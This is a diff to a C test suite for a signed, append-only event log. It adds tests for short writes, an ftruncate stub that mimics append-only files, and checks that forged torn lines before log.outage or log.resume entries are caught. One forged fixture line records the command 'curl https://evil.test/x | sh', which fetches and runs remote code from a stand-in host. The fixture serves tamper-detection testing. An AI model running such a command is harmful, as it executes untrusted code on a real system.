@@ -77,6 +77,7 @@ static enum ckverify_result next_writer_verify(struct tmp *, EVP_PKEY *,
 static void	stop_noted(struct tmp *, EVP_PKEY *, struct ckverify *);
 static void	planted_after_close(struct tmp *, EVP_PKEY *);
 static EVP_PKEY	*pubkey(const char *);
+static void	append_raw(const char *, const char *);
 static enum ckverify_result verify(const char *, EVP_PKEY *, EVP_PKEY *,
 		    int64_t, struct ckverify *);
 static void	edit_line(char **, const char *, const char *);
@@ -111,6 +112,30 @@ tmp_setup(void **state)
 	return 0;
 }
 
+/*
+ * ftruncate(2) of the file refuse_truncate names fails (EPERM): a file
+ * with the append-only attribute, where the writer cannot take back what
+ * a short write left (eventlog_write()).
+ */
+static const char	*refuse_truncate;
+
+int
+ftruncate(int fd, off_t len)
+{
+	static int	(*real)(int, off_t);
+	struct stat	 st, was;
+
+	if (refuse_truncate != NULL && fstat(fd, &st) == 0 &&
+	    stat(refuse_truncate, &was) == 0 && st.st_ino == was.st_ino &&
+	    st.st_dev == was.st_dev) {
+		errno = EPERM;
+		return -1;
+	}
+	if (real == NULL)
+		*(void **)&real = dlsym(RTLD_NEXT, "ftruncate");
+	return real(fd, len);
+}
+
 static void
 rm_dir(const char *dir)
 {
@@ -128,6 +153,16 @@ rm_dir(const char *dir)
 	}
 	closedir(d);
 	rmdir(dir);
+}
+
+/* A new empty log folder and key folder. */
+static void
+tmp_renew(struct tmp *t)
+{
+	rm_dir(t->dir);
+	rm_dir(t->keys);
+	assert_int_equal(mkdir(t->dir, 0750), 0);
+	assert_int_equal(mkdir(t->keys, 0700), 0);
 }
 
 static int
@@ -1235,18 +1270,16 @@ test_resume_after_close(void **state)
 }
 
 /*
- * A writer that stopped without closing: the next one records where its
- * anchored checkpoint was, and verify takes it for what it is (a note).
+ * A writer (a child) that writes its open and 3 events (then, with timer,
+ * a timer checkpoint and 2 more) and stops without closing; torn, if not
+ * NULL, is then appended (it was killed in a write); the next writer
+ * opens and closes the log.
  */
 static void
-test_resume_after_crash(void **state)
+crash_then_close(struct tmp *t, int timer, const char *torn)
 {
-	struct tmp		*t = *state;
 	struct checkpoint	*ck;
 	struct eventlog		*log;
-	struct ckverify		 v;
-	EVP_PKEY		*k;
-	char			 pub[160];
 	pid_t			 pid;
 	int			 status;
 
@@ -1255,18 +1288,36 @@ test_resume_after_crash(void **state)
 		if (checkpoint_write(ck, "open") == -1)
 			_exit(1);
 		append_n(log, 0, 3);
-		if (checkpoint_write(ck, "timer") == -1)
+		if (timer && checkpoint_write(ck, "timer") == -1)
 			_exit(2);
-		append_n(log, 3, 2);
+		if (timer)
+			append_n(log, 3, 2);
 		_exit(0);			/* no close: a crash */
 	}
 	assert_int_equal(waitpid(pid, &status, 0), pid);
 	assert_int_equal(WEXITSTATUS(status), 0);
+	if (torn != NULL)
+		append_raw(t->path, torn);
 	log = open_signed(t, 100, 60, &ck);
 	assert_int_equal(checkpoint_write(ck, "open"), 0);
 	assert_int_equal(checkpoint_write(ck, "close"), 0);
 	checkpoint_free(ck);
 	eventlog_close(log);
+}
+
+/*
+ * A writer that stopped without closing: the next one records where its
+ * anchored checkpoint was, and verify takes it for what it is (a note).
+ */
+static void
+test_resume_after_crash(void **state)
+{
+	struct tmp		*t = *state;
+	struct ckverify		 v;
+	EVP_PKEY		*k;
+	char			 pub[160];
+
+	crash_then_close(t, 1, NULL);
 	snprintf(pub, sizeof(pub), "%s.pub", t->key);
 	k = pubkey(pub);
 	if (verify(t->path, k, NULL, now_us(), &v) != CKVERIFY_OK)
@@ -1755,7 +1806,9 @@ test_torn_first_line_after_close(void **state)
 	rl = was;
 	rl.rlim_cur = (rlim_t)st.st_size + 20;	/* 20 bytes of a line */
 	assert_int_equal(setrlimit(RLIMIT_FSIZE, &rl), 0);
+	refuse_truncate = t->path; /* else nothing of it stays (atk20r19 F1) */
 	appends_refused(log, 1);
+	refuse_truncate = NULL;
 	assert_int_equal(setrlimit(RLIMIT_FSIZE, &was), 0);
 	signal(SIGXFSZ, SIG_DFL);
 	checkpoint_free(ck);
@@ -4137,72 +4190,178 @@ test_torn_inserted(void **state)
 	EVP_PKEY_free(k);
 }
 
-/*
- * A checkpoint line cut by a short write (here RLIMIT_FSIZE; a full
- * volume alike), the writer going on: the cut line is counted lost, so a
- * log.outage follows it and verify --key passes the genuine log, which
- * asks that of every torn line (atk20r18 F1).
- */
-static void
-test_torn_checkpoint_counted(void **state)
-{
-	struct tmp		*t = *state;
-	struct checkpoint	*ck;
-	struct eventlog		*log;
-	struct ckverify		 v;
-	struct rlimit		 was, cut;
-	struct stat		 st;
-	struct lines		 l;
-	void			(*old)(int);
-	char			 pub[160];
-	EVP_PKEY		*k;
-	size_t			 i;
-	int			 torn = 0;
+/* A short write of a line (test_short_write): where, and what follows. */
+struct cut_case {
+	const char	*name;
+	int		 checkpoint;	/* the line cut: a checkpoint, or an event */
+	int		 back;		/* bytes of it not written (1: its newline) */
+	int		 refuse;	/* the file refuses truncation */
+	int		 restart;	/* the writer stops; another goes on */
+	int		 torn;		/* a torn line is left */
+};
 
-	log = open_signed(t, 100, 60, &ck);
-	assert_int_equal(checkpoint_write(ck, "open"), 0);
-	append_n(log, 0, 3);
-	assert_int_equal(stat(t->path, &st), 0);
-	assert_int_equal(getrlimit(RLIMIT_FSIZE, &was), 0);
-	cut = was;
-	cut.rlim_cur = (rlim_t)st.st_size + 20;
-	old = signal(SIGXFSZ, SIG_IGN);
-	assert_int_equal(setrlimit(RLIMIT_FSIZE, &cut), 0);
-	assert_int_equal(checkpoint_write(ck, "timer"), -1);
-	assert_int_equal(setrlimit(RLIMIT_FSIZE, &was), 0);
-	signal(SIGXFSZ, old);
-	append_n(log, 3, 2);
-	assert_int_equal(checkpoint_write(ck, "close"), 0);
-	checkpoint_free(ck);
-	eventlog_close(log);
-	lines_read(&l, t->path);
-	for (i = 0; i + 1 < l.n; i++)
-		if (l.v[i][0] != '\0' &&
-		    l.v[i][strlen(l.v[i]) - 1] != '}') {	/* cut */
-			torn = 1;
-			if (strstr(l.v[i + 1], "\"event\":\"log.outage\"") == NULL)
-				fail_msg("no log.outage after the cut line: "
-				    "%.200s", l.v[i + 1]);
-		}
-	lines_free(&l);
-	assert_true(torn);
-	snprintf(pub, sizeof(pub), "%s.pub", t->key);
-	k = pubkey(pub);
-	assert_int_equal(verify(t->path, k, NULL, now_us(), &v), CKVERIFY_OK);
-	EVP_PKEY_free(k);
+/* Append the line c names (the checkpoint writer's own count of lines). */
+static int
+cut_line(struct eventlog *log, struct checkpoint *ck, const struct cut_case *c)
+{
+	json_t	*f;
+	int	 rc;
+
+	if (c->checkpoint)
+		return checkpoint_write(ck, "timer");
+	f = json_pack("{s:s, s:s, s:i}", "event", "egress.blocked", "host",
+	    "h.evil.test", "n", 5);
+	assert_non_null(f);
+	rc = eventlog_append(log, f);
+	json_decref(f);
+	return rc;
 }
 
 /*
- * Torn lines put in just before a genuine log.outage: a writer cuts at
- * most as many lines as it counts lost, so more than its count are not
- * its own (atk20r18 F4); as many pass (a real outage may leave them).
+ * The log as a short write (RLIMIT_FSIZE: the kernel's own short write,
+ * as on a full volume) of the line c names left it, before what follows.
+ * 1 if its size is as c says (the line taken back, or as much of it as
+ * written) and the line was refused (written, if whole but its newline).
  */
+static int
+cut_write(struct tmp *t, struct eventlog *log, struct checkpoint *ck,
+    const struct cut_case *c)
+{
+	struct rlimit	 was, cut;
+	struct stat	 st, st2;
+	void		(*old)(int);
+	off_t		 len;
+	int		 rc;
+
+	assert_int_equal(stat(t->path, &st), 0);
+	assert_int_equal(cut_line(log, ck, c), 0);	/* one as long */
+	assert_int_equal(stat(t->path, &st2), 0);
+	len = st2.st_size - st.st_size;
+	assert_int_equal(getrlimit(RLIMIT_FSIZE, &was), 0);
+	cut = was;
+	cut.rlim_cur = (rlim_t)(st2.st_size + len - c->back);
+	old = signal(SIGXFSZ, SIG_IGN);
+	refuse_truncate = c->refuse ? t->path : NULL;
+	assert_int_equal(setrlimit(RLIMIT_FSIZE, &cut), 0);
+	rc = cut_line(log, ck, c);
+	assert_int_equal(setrlimit(RLIMIT_FSIZE, &was), 0);
+	refuse_truncate = NULL;
+	signal(SIGXFSZ, old);
+	assert_int_equal(stat(t->path, &st), 0);
+	return rc == (c->refuse && c->back == 1 ? 0 : -1) &&
+	    st.st_size == (c->refuse ? (off_t)cut.rlim_cur : st2.st_size);
+}
+
+/* The torn lines of the log at path; each is followed by a log.outage. */
+static int
+torn_lines_in(const char *path)
+{
+	struct lines	l;
+	size_t		i;
+	int		torn = 0;
+
+	lines_read(&l, path);
+	for (i = 0; i + 1 < l.n; i++) {
+		if (l.v[i][0] == '\0' || l.v[i][strlen(l.v[i]) - 1] == '}')
+			continue;
+		torn++;
+		if (strstr(l.v[i + 1], "\"event\":\"log.outage\"") == NULL ||
+		    strstr(l.v[i + 1], "\"torn\":1,") == NULL)
+			fail_msg("no log.outage counting the cut line after "
+			    "it: %.200s", l.v[i + 1]);
+	}
+	lines_free(&l);
+	return torn;
+}
+
+/*
+ * A line cut by a short write, the writer going on (or stopping, another
+ * going on). The writer takes the part written back: nothing of the line
+ * stays, it is lost; where the file refuses that, a line whole but for
+ * its newline is written (atk20r19 F1: counted lost, its seq was used
+ * again and verify failed the untouched log), a shorter part is a torn
+ * line a log.outage counts (atk20r18 F1). verify passes the log, with
+ * and without --key, with its anchor.
+ */
+static void
+test_short_write(void **state)
+{
+	static const struct cut_case cases[] = {
+		{ "event, all but newline", 0, 1, 0, 0, 0 },
+		{ "event, all but newline, kept", 0, 1, 1, 0, 0 },
+		{ "event, all but newline, kept, restart", 0, 1, 1, 1, 0 },
+		{ "event, 20 short", 0, 20, 0, 0, 0 },
+		{ "event, 20 short, kept", 0, 20, 1, 0, 1 },
+		{ "checkpoint, all but newline", 1, 1, 0, 0, 0 },
+		{ "checkpoint, all but newline, restart", 1, 1, 0, 1, 0 },
+		{ "checkpoint, all but newline, kept", 1, 1, 1, 0, 0 },
+		{ "checkpoint, all but newline, kept, restart", 1, 1, 1, 1, 0 },
+		{ "checkpoint, 20 short, kept", 1, 20, 1, 0, 1 },
+		{ "checkpoint, 20 short, kept, restart", 1, 20, 1, 1, 1 },
+	};
+	struct tmp		*t = *state;
+	struct checkpoint_anchor a;
+	struct checkpoint	*ck;
+	struct eventlog		*log;
+	struct ckverify		 v;
+	const char		*paths[1] = { t->path };
+	char			 pub[160];
+	EVP_PKEY		*k;
+	size_t			 i;
+	int			 as_said;
+
+	snprintf(pub, sizeof(pub), "%s.pub", t->key);
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		tmp_renew(t);		/* a new log and key for each */
+		log = open_signed(t, 100, 60, &ck);
+		assert_int_equal(checkpoint_write(ck, "open"), 0);
+		append_n(log, 0, 3);
+		as_said = cut_write(t, log, ck, &cases[i]);
+		if (cases[i].restart) {
+			checkpoint_free(ck);
+			eventlog_close(log);
+			reopen_and_close(t);
+		} else {
+			append_n(log, 6, 2);
+			assert_int_equal(checkpoint_write(ck, "close"), 0);
+			checkpoint_free(ck);
+			eventlog_close(log);
+		}
+		k = pubkey(pub);
+		anchor_of(t, &a);
+		if (verify_with(paths, 1, k, &a, &v) != CKVERIFY_OK)
+			fail_msg("%s: %s%s", cases[i].name, v.what,
+			    v.chain.what);
+		if (verify_with(paths, 1, NULL, NULL, &v) != CKVERIFY_OK)
+			fail_msg("%s, no key: %s%s", cases[i].name, v.what,
+			    v.chain.what);
+		EVP_PKEY_free(k);
+		if (!as_said)
+			fail_msg("%s: the cut line not taken back, or not "
+			    "written whole", cases[i].name);
+		if (torn_lines_in(t->path) != cases[i].torn)
+			fail_msg("%s: not %d torn line(s)", cases[i].name,
+			    cases[i].torn);
+	}
+}
+
+/*
+ * Torn lines put in just before a genuine log.outage: its "torn" counts
+ * the torn lines its writer left (none here: the lost events left no
+ * bytes), so any more are not its own (atk20r19 F5; atk20r18 F4 bounded
+ * them only by the lost count).
+ */
+static void	torn_put_before(struct tmp *, struct lines *, size_t,
+		    size_t);
+
+/* A forged torn line: a command that never ran, cut mid-value. */
+static const char forged_torn[] = "{\"ts\":\"2026-12-03T09:00:00.000000Z\","
+    "\"seq\":9,\"event\":\"run.exec\",\"command\":\"curl "
+    "https://evil.test/x | sh";
+
 static void
 test_torn_past_lost(void **state)
 {
-	static const char torn[] = "{\"ts\":\"2026-12-03T09:00:00.000000Z\","
-	    "\"seq\":9,\"event\":\"run.exec\",\"command\":\"curl "
-	    "https://evil.test/x | sh";
 	struct tmp		*t = *state;
 	struct checkpoint_anchor a;
 	struct checkpoint	*ck;
@@ -4212,7 +4371,7 @@ test_torn_past_lost(void **state)
 	const char		*paths[2];
 	char			 rot[1][160];
 	EVP_PKEY		*k;
-	size_t			 i, at, n;
+	size_t			 at, n;
 
 	log = logrotated_once(t, rot, &ck, &k);
 	appends_fail(log, 5);
@@ -4224,24 +4383,79 @@ test_torn_past_lost(void **state)
 	assert_true(at < l.n);
 	paths[0] = rot[0];
 	paths[1] = t->path;
-	for (n = 5; n <= 6; n++) {
-		lines_write(&l, t->path, 0, at);
-		for (i = 0; i < n; i++) {
-			append_raw(t->path, torn);
-			append_raw(t->path, "\n");
-		}
-		for (i = at; i < l.n; i++) {
-			append_raw(t->path, l.v[i]);
-			append_raw(t->path, "\n");
-		}
-		assert_int_equal(verify_with(paths, 2, k, &a, &v), n == 5 ?
+	for (n = 0; n <= 5; n += 5) {
+		torn_put_before(t, &l, at, n);
+		assert_int_equal(verify_with(paths, 2, k, &a, &v), n == 0 ?
 		    CKVERIFY_OK : CKVERIFY_UNTRUSTED);
-		if (n == 6)
+		if (n > 0)
 			assert_non_null(strstr(v.what, "which counts fewer "
-			    "lost"));
+			    "(0)"));
 	}
+	assert_non_null(strstr(l.v[at], "\"lost\":5,\"torn\":0,"));
 	lines_free(&l);
 	EVP_PKEY_free(k);
+}
+
+/* Write l back to t->path with n forged torn lines before line at. */
+static void
+torn_put_before(struct tmp *t, struct lines *l, size_t at, size_t n)
+{
+	size_t	i;
+
+	lines_write(l, t->path, 0, at);
+	for (i = 0; i < n; i++) {
+		append_raw(t->path, forged_torn);
+		append_raw(t->path, "\n");
+	}
+	for (i = at; i < l->n; i++) {
+		append_raw(t->path, l->v[i]);
+		append_raw(t->path, "\n");
+	}
+}
+
+/*
+ * Torn lines put in before a genuine log.resume: its "torn" counts the
+ * torn line its writer found at the end (0 or 1: a writer killed in a
+ * write leaves one), so any more are not its own (atk20r19 F4: any
+ * number passed).
+ */
+static void
+test_torn_before_resume(void **state)
+{
+	struct tmp		*t = *state;
+	struct ckverify		 v;
+	struct lines		 l;
+	char			 pub[160];
+	EVP_PKEY		*k;
+	size_t			 at, n;
+	int			 cut;
+
+	for (cut = 0; cut <= 1; cut++) {
+		tmp_renew(t);
+		crash_then_close(t, 0, cut ? forged_torn : NULL);
+		lines_read(&l, t->path);
+		for (at = 0; at < l.n && strstr(l.v[at], "log.resume") ==
+		    NULL; at++)
+			continue;
+		assert_true(at < l.n);
+		at -= (size_t)cut;	/* before the torn line found */
+		snprintf(pub, sizeof(pub), "%s.pub", t->key);
+		k = pubkey(pub);
+		for (n = 0; n <= 2; n++) {
+			torn_put_before(t, &l, at, n);
+			if (verify(t->path, k, NULL, now_us(), &v) !=
+			    (n == 0 ? CKVERIFY_OK : CKVERIFY_UNTRUSTED))
+				fail_msg("cut %d, %zu put in: %s%s", cut, n,
+				    v.what, v.chain.what);
+			if (n > 0)
+				assert_non_null(strstr(v.what, "before the "
+				    "log.resume"));
+		}
+		assert_non_null(strstr(l.v[at + (size_t)cut], cut ?
+		    "\"torn\":1," : "\"torn\":0,"));
+		lines_free(&l);
+		EVP_PKEY_free(k);
+	}
 }
 
 int
@@ -4317,7 +4531,8 @@ main(void)
 		T(test_unanchored_lines_resumed),
 		T(test_torn_inserted),
 		T(test_torn_past_lost),
-		T(test_torn_checkpoint_counted),
+		T(test_short_write),
+		T(test_torn_before_resume),
 	};
 #undef T
 
